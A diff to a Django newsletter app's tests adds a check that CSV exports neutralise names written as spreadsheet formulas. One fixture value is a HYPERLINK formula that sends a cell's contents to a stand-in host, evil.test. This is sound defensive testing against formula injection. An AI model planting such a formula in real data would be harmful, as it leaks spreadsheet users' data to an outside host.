@@ -1,4 +1,6 @@
+import csv
 import datetime
+import io
 
 import pytest
 from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
@@ -140,6 +142,32 @@ def test_subscribers_export_as_csv_with_their_lists(editor_client):
     assert lines[0] == "email,name,language,status,lists,subscribed,confirmed"
     assert any(line.startswith("a@example.org,Ana,en,confirmed,global,") for line in lines)
     assert any(line.startswith("b@example.org,,en,pending,,") for line in lines)
+
+
+def test_a_name_written_as_a_formula_is_exported_as_text(editor_client):
+    """A spreadsheet opening the export shows the name as typed; it never runs it."""
+    newsletter = NewsletterListFactory(slug="global")
+    names = {
+        "f@example.org": '=HYPERLINK("http://evil.test/?leak="&A2,"Click")',
+        "p@example.org": "+1 555 0100",
+        "m@example.org": "-2+3",
+        "a@example.org": "@SUM(A1:A9)",
+        "plain@example.org": "Ana = Anne",
+    }
+    for email, name in names.items():
+        subscribe(SubscriberFactory(email=email, name=name), newsletter)
+    response = editor_client.post(
+        "/admin/newsletters/subscriber/",
+        {
+            "action": "export_csv",
+            ACTION_CHECKBOX_NAME: Subscriber.objects.values_list("pk", flat=True),
+        },
+    )
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    exported = {row["email"]: row["name"] for row in rows}
+    assert exported == {
+        email: name if email == "plain@example.org" else "'" + name for email, name in names.items()
+    }
 
 
 def test_erasing_a_subscriber_asks_first(editor_client):
